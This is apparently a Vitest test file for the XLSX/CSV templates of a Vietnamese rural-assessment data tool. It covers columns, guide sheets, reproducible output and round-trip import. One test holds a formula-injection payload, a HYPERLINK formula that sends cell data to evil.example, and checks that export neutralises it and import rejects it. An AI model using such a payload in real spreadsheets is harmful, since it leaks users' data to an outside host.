import { describe, expect, it } from 'vitest';
import { referenceCatalog } from '../../../tests/fixtures/import/catalog';
import { sampleAssessments } from '../../../tests/fixtures/import/fill';
import { loadExcel } from './excel';
import { readImportFile } from './import-file';
import { templateCsv, templateFileName, templateModel } from './template';
import { DATA_SHEET, GUIDE_SHEET, templateXlsx } from './template-xlsx';
import { listZipEntries } from './zip';

const catalog = referenceCatalog();

function rowsOf(report: Awaited<ReturnType<typeof readImportFile>>) {
  return report.rows.map((r) => ({
    code: r.code,
    criteria_met: r.criteria_met,
    criteria_missing: r.criteria_missing,
    tier: r.tier,
    urban_status: r.urban_status,
    decision_no: r.decision_no,
    decision_date: r.decision_date,
  }));
}

describe('template', () => {
  it.each([
    [2018, '2016', 108, 19],
    [2024, '2020', 106, 19],
    [2026, '2025', 38, 10],
  ] as const)(
    'year %i: one row per unit of vintage %s (%i), one column per criterion (%i)',
    (year, vintage, units, criteria) => {
      const m = templateModel(catalog, year);
      expect(m.ctx.vintage).toBe(vintage);
      expect(m.rows).toHaveLength(units);
      expect(m.columns.filter((c) => c.key === 'criterion')).toHaveLength(criteria);
      expect(m.columns.map((c) => c.header).slice(0, 5)).toEqual([
        'Năm',
        'Mã ĐVHC',
        'Tên đơn vị',
        'Loại',
        'Huyện',
      ]);
      expect(m.columns.map((c) => c.header).slice(-3)).toEqual([
        'Mức đạt chuẩn',
        'Số quyết định',
        'Ngày quyết định',
      ]);
      expect(m.columns[5]?.header).toBe('TC1 Quy hoạch');
    },
  );

  it('writes an XLSX with the data sheet, the guide sheet, codes as text and drop-downs', async () => {
    const bytes = await templateXlsx(templateModel(catalog, 2024));
    const Excel = await loadExcel();
    const wb = new Excel.Workbook();
    await wb.xlsx.load(
      bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer,
    );
    expect(wb.worksheets.map((w) => w.name)).toEqual([DATA_SHEET, GUIDE_SHEET]);
    const ws = wb.getWorksheet(DATA_SHEET)!;
    expect(ws.getCell('B2').value).toBe('03386');
    expect(ws.getCell('B2').numFmt).toBe('@');
    expect(ws.getCell('F9').dataValidation?.formulae).toEqual(['"Đạt,Không đạt,1,0"']);
    const guide = wb.getWorksheet(GUIDE_SHEET)!;
    const text = guide.getSheetValues().flat().join(' ');
    expect(text).toContain('318/QĐ-TTg');
    expect(text).toContain('để trống = chưa có số liệu');
  });

  it('is byte-for-byte reproducible (fixed document dates and zip timestamps)', async () => {
    const a = await templateXlsx(templateModel(catalog, 2024));
    await new Promise((r) => setTimeout(r, 2100)); // DOS timestamps have 2-second resolution
    const b = await templateXlsx(templateModel(catalog, 2024));
    expect(Buffer.from(a).equals(Buffer.from(b))).toBe(true);
    expect(listZipEntries(a)?.some((e) => e.name === 'xl/workbook.xml')).toBe(true);
  });

  it('writes CSV as UTF-8 with BOM and CRLF, quoting headers that hold commas', () => {
    const csv = templateCsv(templateModel(catalog, 2024));
    expect(csv.startsWith('\uFEFFNăm,Mã ĐVHC,Tên đơn vị,')).toBe(true);
    expect(csv).toContain(',"TC3 Thủy lợi và phòng, chống thiên tai",');
    expect(csv.split('\r\n')).toHaveLength(106 + 2);
  });

  it('exports stored formula text guarded by an apostrophe, and reading the export back refuses it', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?d="&B2&C2,"Xem")';
    const [first, ...rest] = sampleAssessments(catalog, 2024, 42);
    const model = templateModel(catalog, 2024, [{ ...first!, decision_no: hostile }, ...rest]);
    const csv = templateCsv(model);
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?d=""&B2&C2,""Xem"")",`);
    expect(csv).not.toContain(',"=HYPERLINK');
    const back = await readImportFile(new TextEncoder().encode(csv), catalog, { fileName: 'x.csv' });
    expect(back.ok).toBe(false);
    expect(back.problems.filter((p) => p.severity === 'error').map((p) => p.code)).toEqual(['formula_text']);
  });

  it('names files by year', () => {
    expect(templateFileName(2024, 'xlsx')).toBe('mau-danh-gia-ntm-2024.xlsx');
    expect(templateFileName(2024, 'csv', 'export')).toBe('danh-gia-ntm-2024.csv');
  });
});

describe('export → import round trip (pure)', () => {
  it.each([2019, 2024, 2026])('year %i: XLSX and CSV exports read back as the same data', async (year) => {
    const data = sampleAssessments(catalog, year, 42);
    const model = templateModel(catalog, year, data);
    const expected = data.map((d) => ({
      code: d.code,
      criteria_met: d.criteria_met,
      criteria_missing: d.criteria_missing,
      tier: d.tier,
      urban_status: d.urban_status,
      decision_no: d.decision_no,
      decision_date: d.decision_date,
    }));
    const fromXlsx = await readImportFile(await templateXlsx(model), catalog, { fileName: 'x.xlsx' });
    expect(fromXlsx.ok).toBe(true);
    expect(fromXlsx.format).toBe('xlsx');
    expect(rowsOf(fromXlsx)).toEqual(expected);
    const fromCsv = await readImportFile(new TextEncoder().encode(templateCsv(model)), catalog, {
      fileName: 'x.csv',
    });
    expect(fromCsv.ok).toBe(true);
    expect(rowsOf(fromCsv)).toEqual(expected);
  });
});
